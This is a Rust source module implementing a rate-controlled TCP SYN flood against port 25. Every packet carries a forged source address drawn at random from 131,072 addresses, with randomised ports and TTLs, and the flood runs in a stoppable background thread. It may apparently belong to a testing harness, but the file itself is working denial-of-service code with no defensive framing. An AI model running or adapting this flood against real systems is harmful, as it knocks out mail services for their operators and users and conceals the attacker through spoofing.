//! A flood of SYNs whose senders never existed.

use std::io;
use std::sync::mpsc::{self, RecvTimeoutError, Sender};
use std::thread::{self, JoinHandle};
use std::time::{Duration, Instant};

use anyhow::{Context as _, Result, anyhow};
use fastrand::Rng;

use crate::forger::{ADDRESSES, Forger};
use crate::site::Site;

/// Between two bursts.
const INTERVAL: Duration = Duration::from_millis(10);

/// SYNs to port 25, at random from 131,072 addresses, until it is dropped.
pub struct Flood {
    stop: Option<Sender<()>>,
    thread: Option<JoinHandle<io::Result<u64>>>,
}

impl Flood {
    /// Sends so many SYNs a second.
    ///
    /// # Errors
    ///
    /// A route or the socket could not be made.
    pub fn start<S>(site: &Site<S>, per_second: u32) -> Result<Self> {
        let forger = Forger::new(site)?;
        let (stop, stopped) = mpsc::channel();
        let thread = thread::spawn(move || {
            let mut random = Rng::with_seed(per_second.into());
            let start = Instant::now();
            let mut sent = 0;
            while stopped.recv_timeout(INTERVAL) == Err(RecvTimeoutError::Timeout) {
                let due = start.elapsed().as_secs_f64() * f64::from(per_second);
                while (sent as f64) < due {
                    let source = Forger::address(random.u32(..ADDRESSES));
                    let ttl = if random.bool() { 64 } else { 128 };
                    forger.syn(source, random.u16(1024..), ttl)?;
                    sent += 1;
                }
            }
            Ok(sent)
        });
        Ok(Self {
            stop: Some(stop),
            thread: Some(thread),
        })
    }

    /// Ends it and returns how many SYNs were sent.
    ///
    /// # Errors
    ///
    /// One could not be sent.
    pub fn stop(mut self) -> Result<u64> {
        let sent = self.end().context("the flood had ended")?;
        Ok(sent.map_err(|_| anyhow!("the flood's thread panicked"))??)
    }

    fn end(&mut self) -> Option<thread::Result<io::Result<u64>>> {
        drop(self.stop.take());
        Some(self.thread.take()?.join())
    }
}

impl Drop for Flood {
    fn drop(&mut self) {
        let _ = self.end();
    }
}
